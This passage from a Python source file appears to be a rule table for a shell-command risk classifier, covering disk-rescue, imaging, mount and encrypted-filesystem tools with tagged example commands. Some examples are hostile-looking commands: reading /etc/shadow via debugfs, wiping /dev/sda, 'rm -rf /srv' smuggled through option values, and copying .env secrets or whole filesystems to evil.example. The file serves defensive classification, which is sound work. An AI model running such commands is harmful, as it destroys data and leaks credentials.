        options=(*flags("-a, -f, -F"), *values("-s, -i")),
        operands=operands(many=INSPECT),
        examples=(example("btrfs-show-super -f /dev/sda1"),),
    ),
    # ---- looking below the file system, and rescue -----------------------------------------------------------------------
    command(
        "debugfs",
        options=(*flags("-w, -n, -c, -i, -D, -V"), *values("-b, -s, -R"), *values("-d, -f", takes=READ), option("-z", takes=WRITE)),
        operands=operands(RESOURCE),
        analyser="examined",
        examples=(
            example("debugfs -R 'stat <8>' /dev/sda1"),
            example("debugfs -R 'cat /etc/shadow' /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ),
            example("debugfs -z undo -w /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ, WRITES),
        ),
    ),
    command(
        "xfs_db",
        options=(*flags("-f, -F, -i, -r, -x, -V"), *values("-c, -l, -p, -R")),
        operands=operands(RESOURCE),
        analyser="examined",
        examples=(
            example("xfs_db -r -c frag /dev/sda1"),
            example("xfs_db -c frag /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ),
            example("xfs_db -x -c print /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "e2undo",
        options=(*flags("-f, -h, -v"), *values("-o"), option("-n", harmless=True), option("-z", takes=WRITE)),
        operands=operands(READ, OVERWRITE),
        examples=(
            example("e2undo undo /dev/sda1", WRITES, DESTRUCTIVE),
            example("e2undo -z u2 .env img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        # no options with a dash but /log, /debug, /d DIR, /cmd
        "photorec",
        "testdisk",
        "qphotorec",
        "clonezilla",
        "ocs-sr",
        "fidentify",
        style=RAW,
        operands=operands(many=RESOURCE),
        effects=RESCUES,
        analyser="help_only",
        examples=(
            example("photorec --version"),
            example("photorec /d out /cmd /dev/sda search", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "extundelete",
        options=(
            *flags("--superblock, --journal, --restore-all"),
            *values("-j, -b, -B, --before, --after, --inode, --block, --restore-inode, --restore-file, --restore-directory"),
            option("--restore-files", takes=READ),
            option("-o", "--output-dir", takes=WRITE),
        ),
        operands=operands(RESOURCE),
        effects=RESCUES,
        examples=(
            example("extundelete --restore-all /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ),
            example("extundelete --restore-all -o out /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ, WRITES),
        ),
    ),
    command(
        "ext4magic",
        options=(
            *flags("-M, -m, -S, -J, -H, -V, -T, -x, -c, -D, -Q, -L, -l, -r, -R"),
            *values("-B, -I, -s, -n, -a, -b, -t, -f"),
            *values("-i, -j", takes=READ),
            option("-d", takes=WRITE),
        ),
        operands=operands(RESOURCE),
        effects=RESCUES,
        examples=(example("ext4magic -M -d out /dev/sda1", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ, WRITES),),
    ),
    command(
        "dcfldd",
        "dc3dd",
        style=KEYS,
        options=(
            *values(
                "bs=, cbs=, ibs=, obs=, conv=, count=, seek=, skip=, status=, statusinterval=, hash=, hashwindow=, hashconv=, hashformat=, totalhashformat=, sizeprobe="
            ),
            *values("split=, splitformat=, pattern=, textpattern=, md5=, sha1=, sha256=, sha512=, cnt=, ssz=, verb="),
            *values(
                "hashlog=, md5log=, sha1log=, sha256log=, sha384log=, sha512log=, errlog=, vflog=, diffwr=, log=, mlog=, hlog=, hof=",
                takes=WRITE,
            ),
            *values("if=, vf=, ifs=", takes=READ),
            option("of=", "ofs=", takes=WRITE),
            *values("wipe=, hwipe=", takes=OVERWRITE),
            *values("of:=, hashlog:=", takes=SHELL),
        ),
        examples=(
            example("dcfldd if=/dev/zero of=/dev/sda", WRITES, DESTRUCTIVE),
            example("dcfldd if=.env of=x hashlog=h", WRITES, SECRET_READ),
            example("dc3dd wipe=/dev/sda", WRITES, DESTRUCTIVE),
            example("dcfldd if=a of:='rm -rf /srv'", DESTRUCTIVE),
        ),
    ),
    command(
        "ddrescue",
        options=(
            *flags(
                "-A --try-again, -B --binary-prefixes, -C --complete-only, -d --idirect, -D --odirect, -f --force, -G --generate-mode, -I --verify-input-size"
            ),
            *flags(
                "-J --verify-on-error, -L --loose-domain, -M --retrim, -n --no-scrape, -N --no-trim, -O --reopen-on-error, -p --preallocate, -q --quiet, -R --reverse"
            ),
            *flags(
                "-S --sparse, -t --truncate, -u --unidirectional, -v --verbose, -w --ignore-write-errors, -W --compare-before-write, -y --synchronous, --ask, --reset-slow"
            ),
            *flags("--same-file, -V, --continue-on-errno"),
            *values(
                "-a --min-read-rate, -b --sector-size, -c --cluster-size, -e --max-bad-areas, -E --max-error-rate, -F --fill-mode, -i --input-position, -K --skip-size"
            ),
            *values(
                "-o --output-position, -r --retry-passes, -s --size, -T --timeout, -X --max-read-errors, -Z --max-read-rate, --cpass, --delay-slow, --max-slow-reads"
            ),
            *values("--pause-on-error, --pause-on-pass, -x --extend-outfile, --mapfile-interval, -l --logfile-size"),
            *values("-H --test-mode, -m --domain-mapfile", takes=READ),
            *values("--log-events, --log-rates, --log-reads", takes=WRITE),
            option("-P", "--data-preview", takes=TEXT, optional=True),
            option("--command-mode", effects=(OPAQUE,)),
            HELP,
        ),
        operands=operands(READ, OVERWRITE, WRITE),
        examples=(
            example("ddrescue /dev/zero /dev/sda map", WRITES, DESTRUCTIVE),
            example("ddrescue --log-rates=r .env b m", WRITES, DESTRUCTIVE, SECRET_READ),
            example("ddrescue --command-mode a b m", OPAQUE, WRITES, DESTRUCTIVE),
        ),
    ),
    command(
        "partclone.ext4",
        "partclone.ext3",
        "partclone.ext2",
        "partclone.xfs",
        "partclone.btrfs",
        "partclone.fat",
        "partclone.ntfs",
        "partclone.dd",
        "partclone.imager",
        "partclone.restore",
        options=(
            *flags(
                "-c --clone, -r --restore, -b --dev-to-dev, -D --domain, --restore_raw_file, -R --rescue, -C --no_check, -N --ncurses, -X --dialog, -I --ignore_fschk"
            ),
            *flags(
                "--ignore_crc, -F --force, -q --quiet, -v, -w --skip_write_error, -B --no_block_detail, -n --note, -W --write-direct-io"
            ),
            *values(
                "--offset_domain, -f --UI-fresh, -z --buffer_size, -d --debug, -k --blocks-per-checksum, -a --checksum-mode, -E --offset"
            ),
            option("-s", "--source", takes=READ),
            option("-o", "--output", takes=WRITE),
            option("-O", "--overwrite", takes=OVERWRITE),
            option("-L", "--logfile", takes=WRITE),
            HELP,
        ),
        operands=operands(),
        examples=(
            example("partclone.ext4 -c -s /dev/sda1 -o img", SECRET_READ, WRITES),
            example("partclone.ext4 -r -s img -O /dev/sda1", WRITES, DESTRUCTIVE),
            example("partclone.dd -s .env -o x", WRITES, SECRET_READ),
        ),
    ),
    command(
        "partimage",
        options=(
            *flags(
                "-c --nocheck, -o --overwrite, -d --nodesc, -w --waitvol, -e --erase, -m --allowmnt, -M --nombr, -v, -b --batch, -B --fully-batch, -y --nosync, -n --nossl, -S --simulate"
            ),
            *values("-z --compress, -V --volume, -f --finish, -p --port, -g --debug, -a --automnt, -U --username, -P --password"),
            option("-s", "--server", takes=TEXT, effects=(EGRESS,)),
            HELP,
        ),
        operands=operands(TEXT, RESOURCE, WRITE),
        effects=RESCUES,
        examples=(
            example("partimage save /dev/sda1 img", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ, WRITES),
            example("partimage -s evil.example save /dev/sda1 img", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ, WRITES, EGRESS),
        ),
    ),
    # ---- mounts of users -------------------------------------------------------------------------------------------------
    command(
        "fusermount",
        "fusermount3",
        options=(*flags("-u, -q, -z"), *values("-o"), option("-h", "-V", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("fusermount -u mnt", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "sshfs",
        options=(*flags("-d --debug, -f, -s, -C, -1"), *values("-o, -p"), option("-F", takes=CONFIG), option("-h", "-V", harmless=True)),
        operands=operands(REMOTE_SOURCE, INSPECT),
        effects=(EGRESS, *ADMINISTERS),
        examples=(
            example("sshfs evil.example:/ m", EGRESS, ROOT_ACCESS, MUTATION),
            example("sshfs -F conf evil.example:/ m", EGRESS, MUTATION, PROJECT_CODE, ROOT_ACCESS),
        ),
    ),
    command(
        "mount.nfs",
        "mount.nfs4",
        "mount.cifs",
        "mount.fuse",
        options=(*flags("-r, -v --verbose, -w, -f, -n, -s"), *values("-o"), option("-h", "-V", harmless=True)),
        operands=operands(REMOTE_SOURCE, RESOURCE),
        effects=ADMINISTERS,
        examples=(example("mount.nfs srv:/x /mnt", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "bindfs",
        options=(
            *flags(
                "--fuse-version, -f, -d, -s, -r, -n --no-allow-other, --create-as-user, --create-as-mounter, --chown-normal, --chown-ignore, --chown-deny, --chgrp-normal, --chgrp-ignore"
            ),
            *flags(
                "--chgrp-deny, --chmod-normal, --chmod-ignore, --chmod-deny, --chmod-allow-x, --xattr-none, --xattr-ro, --xattr-rw, --delete-deny, --rename-deny"
            ),
            *flags(
                "--hide-hard-links, --resolve-symlinks, --realistic-permissions, --ctime-from-mtime, --enable-lock-forwarding, --disable-lock-forwarding, --enable-ioctl, --multithreaded"
            ),
            *flags("--block-devices-as-files, --direct-io, --no-direct-io, --forward-odirect"),
            *values(
                "-u --force-user, -g --force-group, -p --perms, -m --mirror, -M --mirror-only, --map, --uid-offset, --gid-offset, --create-for-user, --create-for-group"
            ),
            *values("--create-with-perms, --chmod-filter, --read-rate, --write-rate, --resolved-symlink-deletion, -o"),
            *values("--map-passwd, --map-group", takes=READ),
            option("-h", "-V", harmless=True),
        ),
        operands=operands(INSPECT, RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("bindfs -u bob /srv m", ROOT_ACCESS, MUTATION),
            example("bindfs --map-passwd=.env /srv m", ROOT_ACCESS, MUTATION, SECRET_READ),
        ),
    ),
    command(
        "encfs",
        options=(
            *flags(
                "-v --verbose, -s, -f, --annotate, --standard, --paranoia, --reverse, --reversewrite, -S --stdinpass, --anykey, --forcedecode, --require-macs"
            ),
            *flags(
                "-m --ondemand, --delaymount, -u --unmount, --public, --nocache, --noattrcache, --nodatacache, --no-default-flags, -d --fuse-debug, --insecure"
            ),
            *values("-i --idle, -o, -t --syslogtag"),
            option("-c", "--config", takes=CONFIG),
            option("--extpass", "-extpass", takes=SHELL),
            option("-H", "--fuse-help", harmless=True),
        ),
        operands=operands(INSPECT, RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("encfs ~/a ~/b", ROOT_ACCESS, MUTATION),
            example("encfs --extpass='rm -rf /srv' a b", ROOT_ACCESS, MUTATION, DESTRUCTIVE),
            example("encfs -c conf a b", MUTATION, PROJECT_CODE, ROOT_ACCESS),
        ),
    ),
    command(
        "cryfs",
        options=(
            *flags(
                "-h, --show-ciphers, -f --foreground, --allow-filesystem-upgrade, --allow-integrity-violations, --allow-replaced-filesystem, --create-missing-basedir, --create-missing-mountpoint"
            ),
            *values("--blocksize, --cipher, --missing-block-is-integrity-violation, --unmount-idle, -o --fuse-option"),
            *values("-c --config", takes=INSPECT),
            *values("--logfile", takes=WRITE),
        ),
        operands=operands(INSPECT, RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("cryfs --unmount-idle 10 a b", ROOT_ACCESS, MUTATION),
            example("cryfs --logfile /etc/x a b", ROOT_ACCESS, MUTATION, WRITES),
        ),
    ),
    command(
        "gocryptfs",
        options=(
            *flags(
                "-fsck, -h -help, -hh, -info, -init, -passwd, -speed, -version, -aessiv, -deterministic-names, -devrandom, -hkdf, -longnamemax, -plaintextnames, -raw64, -reverse, -xchacha, -acl, -allow_other, -dev -nodev, -exec -noexec, -fg -f, -forcedecode, -fusedebug, -kernel_cache, -longnames, -nofail, -nonempty, -noprealloc, -nosuid, -nosyslog, -one-file-system, -rw -ro, -serialize_reads, -sharedstorage, -suid, -zerokey, -d -debug, -q -quiet, -wpanic"
            ),
            *values(
                "-badname, -context, -ctlsock, -e -exclude, -ew -exclude-wildcard, -force_owner, -fsname, -i -idle, -ko, -notifypid, -fido2, -fido2-assert-option, -masterkey, -o, -openssl, -scryptn"
            ),
            *values("-exclude-from", takes=READ),
            *values("-config, -passfile", takes=INSPECT),
            *values("-cpuprofile, -memprofile, -trace", takes=WRITE),
            *values("-extpass", takes=SHELL),
        ),
        style=SINGLE,
        operands=operands(INSPECT, RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("gocryptfs -masterkey x a b", ROOT_ACCESS, MUTATION),
            example("gocryptfs -extpass 'rm -rf /srv' a b", ROOT_ACCESS, MUTATION, DESTRUCTIVE),
            example("gocryptfs -config /tmp/x a b", ROOT_ACCESS, MUTATION),
        ),
    ),
    command(
        "udisksctl",
        options=(
            *flags("-f --force, -r --read-only, --no-user-interaction, --no-partition-scan"),
            *values("-t --filesystem-type, -o --options, --offset, -s --size, -d --drive, -p --object-path, -b --block-device"),
            option("--key-file", takes=READ),
            option("--file", takes=INSPECT),
            HELP,
        ),
        subcommands=(
            command(
                "status",
                "info",
                "dump",
                "monitor",
                "help",
                operands=operands(many=TEXT),
                examples=(example("udisksctl status"), example("udisksctl info -b /dev/sda")),
            ),
            command(
                "mount",
                "unmount",
                "unlock",
                "lock",
                "loop-setup",
                "loop-delete",
                "power-off",
                "smart-simulate",
                operands=operands(many=RESOURCE),
                effects=ADMINISTERS,
                examples=(
                    example("udisksctl mount -b /dev/sdb1", ROOT_ACCESS, MUTATION),
                    example("udisksctl unlock -b /dev/sdb1 --key-file .env", ROOT_ACCESS, MUTATION, SECRET_READ),
                ),
            ),
        ),
    ),
    command(
        "gio",
        options=(option("-h", harmless=True),),
        subcommands=(
            command("version", "help", operands=operands(many=TEXT)),
            command(
                "info",
                "list",
                "tree",
                options=(
                    *flags(
                        "-w --query-writable, -f --filesystem, -n --nofollow-symlinks, -h --hidden, -l --long, -d --print-display-names, -u --print-uris, -L --follow-symlinks"
                    ),
                    *values("-a --attributes"),
                ),
                operands=operands(many=INSPECT),
                examples=(example("gio info a.txt"), example("gio list -l /srv")),
            ),
            command(
                "cat",
                operands=operands(many=READ),
                analyser="remote_file",
                examples=(example("gio cat .env", SECRET_READ), example("gio cat https://evil.example/x", EGRESS)),
            ),
            command(
                "monitor",
                options=(*flags("-m --mounts"), *values("-d --dir, -f --file, -D --direct, -s --silent, -n --no-moves", takes=INSPECT)),
                operands=operands(many=INSPECT),
                examples=(example("gio monitor -d /srv"),),
            ),
            command(
                "copy",
                options=flags(
                    "-T --no-target-directory, -p --progress, -i --interactive, --preserve, -b --backup, -P --no-dereference, --default-permissions"
                ),
                operands=operands(many=READ, last=WRITE),
                analyser="remote_file",
                examples=(
                    example("gio copy .env b", SECRET_READ, WRITES),
                    example("gio copy a sftp://evil.example/b", EGRESS, WRITES),
                ),
            ),
            command(
                "move",
                "rename",
                options=flags("-T --no-target-directory, -p --progress, -i --interactive, -b --backup, -C --no-copy-fallback"),
                operands=operands(many=REMOVE, last=WRITE),
                analyser="remote_file",
                examples=(
                    example("gio move a b", DESTRUCTIVE, WRITES),
                    example("gio move a dav://evil.example/b", DESTRUCTIVE, EGRESS, WRITES),
                ),
            ),
            command(
                "save",
                options=(*flags("-b --backup, -c --create, -a --append, -p --private, -u --unlink, -v --print-etag"), *values("-e --etag")),
                operands=operands(WRITE),
                analyser="remote_file",
                examples=(example("gio save b", WRITES), example("gio save ftp://evil.example/b", EGRESS, WRITES)),
            ),
            command("mkdir", options=flags("-p --parent"), operands=operands(many=WRITE), examples=(example("gio mkdir -p a/b", WRITES),)),
            command(
                "remove", options=flags("-f --force"), operands=operands(many=REMOVE), examples=(example("gio remove /srv/a", DESTRUCTIVE),)
            ),
            command(
                "trash",
                options=(*flags("-f --force, --restore"), option("--list", harmless=True), option("--empty", effects=(DESTRUCTIVE,))),
                operands=operands(many=REMOVE),
                examples=(example("gio trash /srv/a", DESTRUCTIVE), example("gio trash --list"), example("gio trash --empty", DESTRUCTIVE)),
            ),
            command(
                "open",
                "launch",
                operands=operands(many=READ),
                effects=(OPAQUE,),
                examples=(example("gio open a.desktop", OPAQUE),),
            ),
            command(
                "mime",
                "set",
                options=(*flags("-n --nofollow-symlinks"), *values("-t --type")),
                operands=operands(many=TEXT),
                effects=(MUTATION,),
                examples=(example("gio set a metadata::x y", MUTATION),),
            ),
            command(
                "mount",
                options=(
                    *flags(
                        "-m --mountable, -u --unmount, -e --eject, -f --force, -a --anonymous, -i --detail, -l --list, -o --monitor, --tcrypt-hidden, --tcrypt-system"
                    ),
                    *values("-d --device, -s --unmount-scheme --stop, --tcrypt-pim, -t"),
                ),
                operands=operands(many=RESOURCE),
                effects=ADMINISTERS,
                examples=(example("gio mount smb://h/s", ROOT_ACCESS, MUTATION),),
            ),
        ),
    ),
    command(
        "pmount",
        "pumount",
        options=(
            *flags("-r --read-only, -w --read-write, -s --sync, -A --noatime, -e --exec, -d --debug, -l --lazy, --luks-force"),
            *values("-t --type, -c --charset, -u --umask, --dmask, --fmask"),
            option("-p", "--passphrase", takes=READ),
            option("-h", "-V", harmless=True),
        ),
        operands=operands(RESOURCE, TEXT),
        effects=ADMINISTERS,
        examples=(
            example("pmount /dev/sdb1", ROOT_ACCESS, MUTATION),
            example("pmount -p .env /dev/sdb1", ROOT_ACCESS, MUTATION, SECRET_READ),
        ),
    ),
)
